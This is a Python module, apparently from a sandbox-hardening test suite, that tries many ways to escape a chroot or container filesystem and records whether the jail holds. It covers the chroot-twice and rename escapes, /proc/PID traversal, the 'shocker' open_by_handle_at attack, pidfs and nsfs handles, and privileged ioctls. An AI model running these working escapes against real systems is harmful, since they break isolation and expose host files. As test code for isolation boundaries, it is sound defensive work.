"""Getting out of the file tree: hostile-root.md, section 1."""

from __future__ import annotations

import ctypes
import errno
import fcntl
import os
import struct
from functools import partial

from .attempt import ESCAPED, EXPOSED, HELD, Facts, Verdict, attempt, call, sees_secret, tried, why

_NAME_TO_HANDLE_AT, _OPEN_BY_HANDLE_AT = 303, 304
_AT_FDCWD = -100


def climb(facts: Facts) -> Verdict:
    """From the current directory up, as far as it goes, and make that the root."""
    for _ in range(64):
        os.chdir("..")
    if sees_secret(facts, os.open(".", os.O_RDONLY)):
        return ESCAPED, "the host's tree is above"
    os.chroot(".")
    return (ESCAPED, "the host's tree is the root") if sees_secret(facts) else (HELD, "the climb ends in the jail")


@attempt("files: the host's path as it is")
def _as_it_is(facts: Facts) -> Verdict:
    return (ESCAPED, facts["secret"]) if sees_secret(facts) else (HELD, "no such file")


@attempt("files: chroot twice")
def _chroot_twice(facts: Facts) -> Verdict:
    os.mkdir("inner")
    try:
        os.chroot("inner")
    except OSError as error:
        return HELD, why(error)
    return climb(facts)


@attempt("files: chroot with a directory left open")
def _chroot_with_directory(facts: Facts) -> Verdict:
    root = os.open("/", os.O_RDONLY)
    os.mkdir("inner")
    try:
        os.chroot("inner")
    except OSError as error:
        return HELD, why(error)
    os.fchdir(root)
    return climb(facts)


@attempt("files: a directory moved out while one is in it")
def _moved_out(facts: Facts) -> Verdict:
    os.makedirs("cage/inner")
    outside = os.open(".", os.O_RDONLY)
    os.chdir("cage/inner")
    try:
        os.chroot("..")
    except OSError as error:
        return HELD, why(error)
    os.rename("cage/inner", "inner", src_dir_fd=outside, dst_dir_fd=outside)
    return climb(facts)


@attempt("files: .. with openat")
def _dots(facts: Facts) -> Verdict:
    here = os.open("/", os.O_PATH)
    for _ in range(64):
        here = os.open("..", os.O_PATH, dir_fd=here)
    return (ESCAPED, "the host's tree is above") if sees_secret(facts, here) else (HELD, "the root is its own parent")


def _through_proc(name: str, facts: Facts) -> Verdict:
    refused = "nothing"
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            there = os.open(f"/proc/{pid}/{name}", os.O_PATH)
        except OSError as error:
            refused = why(error)
            continue
        for _ in range(32):
            if sees_secret(facts, there):
                return ESCAPED, f"/proc/{pid}/{name}"
            try:
                there = os.open("..", os.O_PATH, dir_fd=there)
            except OSError:
                break
    return HELD, refused


for _name in ("root", "cwd"):
    attempt(f"files: /proc/PID/{_name} of every process")(partial(_through_proc, _name))


@attempt("files: /proc/PID/fd of every process")
def _descriptors(facts: Facts) -> Verdict:
    for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                where = os.readlink(f"/proc/{pid}/fd/{name}")
            except OSError:
                continue
            if where.startswith("/") and not where.startswith(("/dev/", "/proc/")) and not os.path.exists(where):
                return ESCAPED, f"/proc/{pid}/fd/{name} -> {where}"
    return HELD, "none of the host's"


@attempt("files: /proc/PID/map_files of every process")
def _map_files(facts: Facts) -> Verdict:
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            maps = os.listdir(f"/proc/{pid}/map_files")
            for name in maps:
                os.close(os.open(f"/proc/{pid}/map_files/{name}", os.O_RDONLY))
                return EXPOSED, f"/proc/{pid}/map_files/{name} opens"
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.EACCES, errno.ENOENT):
                raise
    return HELD, "none opens"


def _handle(kind: int, content: bytes) -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(struct.pack("=Ii", len(content), kind) + content, 8 + len(content))


def _open_handle(kind: int, content: bytes, directory: int) -> int:
    return call(_OPEN_BY_HANDLE_AT, directory, _handle(kind, content), os.O_RDONLY)


@attempt("files: handle of the host's file (shocker)")
def _shocker(facts: Facts) -> Verdict:
    root = os.open("/", os.O_RDONLY)

    def read() -> str:
        fd = _open_handle(1, struct.pack("=II", int(facts["secret_inode"]), 0), root)
        return os.read(fd, 4096).decode()

    return tried(read)


@attempt("files: handle of the file system's root")
def _handle_of_root(facts: Facts) -> Verdict:
    root = os.open("/", os.O_RDONLY)
    return tried(lambda: _open_handle(1, struct.pack("=II", 2, 0), root))


@attempt("files: handle of a process (pidfs)")
def _pidfs(facts: Facts) -> Verdict:
    pidfd = os.pidfd_open(os.getpid())
    for inode in (1, 2, os.fstat(pidfd).st_ino - 1):
        verdict = tried(partial(_open_handle, 0xF0, struct.pack("=Q", inode), pidfd))
        if verdict[0] != HELD or verdict[1] == os.strerror(errno.EPERM):
            return verdict
    # 6.14 and later: FD_PIDFS_ROOT for a directory.
    return tried(lambda: _open_handle(0xF0, struct.pack("=Q", 1), -10002))


@attempt("files: handle of a namespace (nsfs)")
def _nsfs(facts: Facts) -> Verdict:
    # struct nsfs_file_handle: ns_id, ns_type, ns_inum; FD_NSFS_ROOT for a directory.
    # The host's first have fixed numbers.
    newns, inode = 0x20000, 0xEFFFFFF8
    return tried(lambda: _open_handle(0xF1, struct.pack("=QII", 8, newns, inode), -10003))


@attempt("files: name_to_handle_at")
def _name_to_handle(facts: Facts) -> Verdict:
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 8 + 128)
    number = ctypes.create_string_buffer(8)
    return tried(lambda: call(_NAME_TO_HANDLE_AT, _AT_FDCWD, b"/", handle, number, 0), EXPOSED)


# _IOC numbers of linux/fs.h and fs/ext4; what each is given makes it fail where it is allowed.
_IOCTLS = {
    "FITHAW (FIFREEZE's other half)": (0xC0045878, b"", ESCAPED),
    "FITRIM": (0xC0185879, None, ESCAPED),
    "EXT4_IOC_SHUTDOWN": (0x8004587D, struct.pack("=I", 255), ESCAPED),
    "FIBMAP": (1, struct.pack("=i", 0), EXPOSED),
    "FS_IOC_GETFSUUID": (0x80111500, bytes(64), EXPOSED),
    "FS_IOC_GETFSLABEL": (0x81009431, bytes(256), EXPOSED),
    "FS_IOC_GETFSSYSFSPATH": (0x80811501, bytes(256), EXPOSED),
    "EXT4_IOC_GETFSUUID": (0x8008662C, struct.pack("=II", 16, 0) + bytes(16), EXPOSED),
}


def _ioctl(name: str, facts: Facts) -> Verdict:
    request, argument, verdict = _IOCTLS[name]
    with open("file", "wb") as file:
        file.write(bytes(4096))
    fd = os.open("file", os.O_RDWR)
    memory = None if argument is None else ctypes.create_string_buffer(argument, max(len(argument), 1))
    try:
        call(16, fd, request, memory)
    except OSError as error:
        if error.errno in (errno.EINVAL, errno.EFAULT) and verdict == ESCAPED:
            return ESCAPED, f"allowed, only the argument is wrong: {why(error)}"
        return HELD, why(error)
    return verdict, "the file system answers"


for _name in _IOCTLS:
    attempt(f"files: {_name}")(partial(_ioctl, _name))


@attempt("files: EXT4_IOC_GET_TUNE_SB_PARAM")
def _tune(facts: Facts) -> Verdict:
    fd = os.open(".", os.O_RDONLY)
    memory = ctypes.create_string_buffer(4096)
    for size in range(64, 1024, 4):  # its structure grows
        try:
            call(16, fd, 0x80000000 | size << 16 | 0x662D, memory)
        except OSError as error:
            if error.errno not in (errno.ENOTTY, errno.EINVAL):
                return HELD, why(error)
        else:
            return EXPOSED, "the file system answers"
    return HELD, "no such request"


def _set_flag(flag: int, facts: Facts) -> Verdict:
    fd = os.open("file", os.O_RDWR | os.O_CREAT)
    before = int.from_bytes(fcntl.ioctl(fd, 0x80086601, bytes(8))[:4], "little")
    verdict = tried(lambda: fcntl.ioctl(fd, 0x40086602, struct.pack("=q", before | flag)))
    if verdict[0] == ESCAPED:
        fcntl.ioctl(fd, 0x40086602, struct.pack("=q", before))
    return verdict


for _name, _flag in (("immutable", 0x10), ("append-only", 0x20)):
    attempt(f"files: chattr, {_name}")(partial(_set_flag, _flag))


@attempt("files: project id of a file")
def _project(facts: Facts) -> Verdict:
    fd = os.open("file", os.O_RDWR | os.O_CREAT)
    attributes = bytearray(28)
    try:
        fcntl.ioctl(fd, 0x801C581F, attributes)
    except OSError as error:
        return HELD, why(error)
    struct.pack_into("=I", attributes, 12, 4711)
    try:
        fcntl.ioctl(fd, 0x401C5820, bytes(attributes))
    except OSError as error:
        # Allowed, but this file system was made without projects.
        return (ESCAPED if error.errno == errno.EOPNOTSUPP else HELD), why(error)
    return ESCAPED, "it works"


for _name in ("trusted.attempt", "security.attempt", "security.ima"):

    def _attribute(name: str, facts: Facts) -> Verdict:
        with open("file", "w"):
            pass
        return tried(lambda: os.setxattr("file", name, b"\x01value"))

    attempt(f"files: extended attribute {_name}")(partial(_attribute, _name))


@attempt("files: quotactl")
def _quota(facts: Facts) -> Verdict:
    try:
        call(443, os.open("/", os.O_RDONLY), 0x800007 << 8, 0, ctypes.create_string_buffer(256))
    except OSError as error:
        return (HELD if error.errno in (errno.EPERM, errno.EACCES) else EXPOSED), why(error)
    return ESCAPED, "it works"


@attempt("files: watch the whole file system (fanotify)")
def _fanotify(facts: Facts) -> Verdict:
    def watch() -> int:
        group = call(300, 0x200, os.O_RDONLY)
        return call(301, group, 0x101, 0x20, _AT_FDCWD, b"/")

    return tried(watch)
